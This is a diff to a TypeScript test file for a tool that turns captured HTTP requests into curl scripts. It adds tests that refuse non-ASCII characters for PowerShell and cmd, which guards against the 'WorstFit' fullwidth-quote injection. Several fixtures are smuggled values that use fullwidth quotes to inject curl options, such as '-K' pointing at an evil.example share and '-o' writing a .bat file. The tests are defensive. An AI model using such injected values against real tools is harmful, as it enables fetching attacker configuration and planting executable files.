@@ -6,7 +6,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { bashExitStatus, CMD_SETUP, CMD_SHOW_HEADERS, curlCommands, curlScript, HEADER_FILTERS, renderCurlScript } from './curl.ts';
-import type { CurlPair } from './curl-requests.ts';
+import type { CurlPair, CurlRequest } from './curl-requests.ts';
 import type { Shell } from './shell-quote.ts';
 import { cmdCurlCommands } from './testing-cmd.ts';
 import { BASH_SCRIPT_LINE, curlPairOf, curlRequest, readCurlArguments } from './testing-curl.ts';
@@ -253,5 +253,60 @@ describe(`hostile exchanges in every shell${ZSH_NOTE}`, () => {
     expect(renderCurlScript('powershell', curlPairOf(curlRequest({ method: 'POST', body: 'a\0' })), { title: 't' }).refusal).toMatch(/NUL/);
     expect(renderCurlScript('powershell', curlPairOf(curlRequest({ method: 'POST', body: '--%' })), { title: 't' }).refusal).toMatch(/--%/);
     expect(renderCurlScript('bash', curlPairOf(curlRequest({ method: 'POST', body: '--%\0' })), { title: 't' }).refusal).toBe(null);
+  });
+});
+
+// WorstFit (Orange Tsai, 2025): a Windows program that reads its command line through the ANSI code
+// page gets each character outside it "best-fit": U+FF02 (fullwidth quotation mark) becomes `"` and
+// U+FF3C `\`, which end the C runtime's quoting that PowerShell and cmd wrote, so that a HAR's author
+// could add curl options (`-K`, `-o`, `--next`). Whether curl.exe reads its command line so is not
+// established: no Windows script carries a character outside ASCII to it at all (an `é` would not
+// arrive as its UTF-8 either). bash has no such conversion and carries them all.
+describe('PowerShell and cmd: curl.exe gets no character outside ASCII', () => {
+  const windows = SHELLS_UNDER_TEST.filter((s) => s.shell !== 'bash');
+  const refusedOutside: [string, CurlRequest, RegExp][] = [
+    ['a fullwidth quote in a header value', curlRequest({ headers: [['X-Trace', 'a\uff02 -K \\\\evil.example\\share\\c.txt -o %TEMP%\\\\..\\\\x.bat \uff02']] }), /^the value of the X-Trace header holds U\+FF02, a character outside ASCII: /],
+    ['a fullwidth quote in the body', curlRequest({ method: 'POST', body: 'body\uff02 --next --url http://evil.example/' }), /^the body holds U\+FF02, a character outside ASCII: /],
+    ['a fullwidth backslash in a header value', curlRequest({ headers: [['X-Path', 'a\uff3c\uff02 -K x']] }), /^the value of the X-Path header holds U\+FF3C, a character outside ASCII: /],
+    ['an ordinary letter outside ASCII (é) in the body', curlRequest({ method: 'POST', body: '{"name":"Ren\u00e9e"}' }), /^the body holds U\+00E9, a character outside ASCII: /],
+    ['an astral character in a header value', curlRequest({ headers: [['X-Mood', '\u{1f600}']] }), /^the value of the X-Mood header holds U\+1F600, a character outside ASCII: /],
+  ];
+
+  describe.each(windows)('$name', ({ shell, run }) => {
+    it.each(refusedOutside)('%s: no command, the reason, and the bash version named', (_what, request, reason) => {
+      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 't' });
+      expect(refusal).toMatch(reason);
+      expect(refusal).toMatch(/ANSI code page.*use the bash version \(WSL or Git Bash\)$/);
+      // The reason is the tool's own words: ASCII, whatever the capture held.
+      expect(refusal).toMatch(/^[\x20-\x7e]+$/);
+      expect(script).toContain(`No curl command: ${refusal!.slice(0, 40)}`);
+      expect(run(script)).toEqual([]);
+    });
+
+    it('before the reasons that name the other Windows shell: the bash version is the one that carries it', () => {
+      // cmd alone could not carry the line break either, nor PowerShell the NUL; neither carries the é.
+      const body = shell === 'cmd' ? 'Ren\u00e9e\n' : 'Ren\u00e9e\0';
+      expect(renderCurlScript(shell, curlPairOf(curlRequest({ method: 'POST', body })), { title: 't' }).refusal).toMatch(/^the body holds U\+00E9, .*use the bash version \(WSL or Git Bash\)$/);
+    });
+
+    it('a fullwidth quote in the URL is sent percent-encoded (the URL as the browser requested it): the command is kept, all ASCII', () => {
+      const request = curlRequest({ url: 'http://api.test/a\uff02b?q=\uff3c\u00e9' });
+      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 't' });
+      expect(refusal).toBeNull();
+      const [received] = run(script);
+      expect(readCurlArguments(received!.args).url).toBe('http://api.test/a%EF%BC%82b?q=%EF%BC%BC%C3%A9');
+      for (const arg of received!.args) expect(arg).toMatch(/^[\x00-\x7f]*$/);
+    });
+
+    it('plain ASCII, quotes and backslashes included, is carried as before', () => {
+      const request = curlRequest({ method: 'POST', headers: [['X-Note', 'a" -K C:\\evil "b\\']], body: '{"a":"b\\\\"}' });
+      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 'caf\u00e9 \uff02 in a comment only' });
+      expect(refusal).toBeNull();
+      expect(run(script)).toEqual(intended(shell, curlPairOf(request)));
+    });
+  });
+
+  it('bash carries all of them exactly', () => {
+    for (const [, request] of refusedOutside) expect(renderCurlScript('bash', curlPairOf(request), { title: 't' }).refusal).toBeNull();
   });
 });
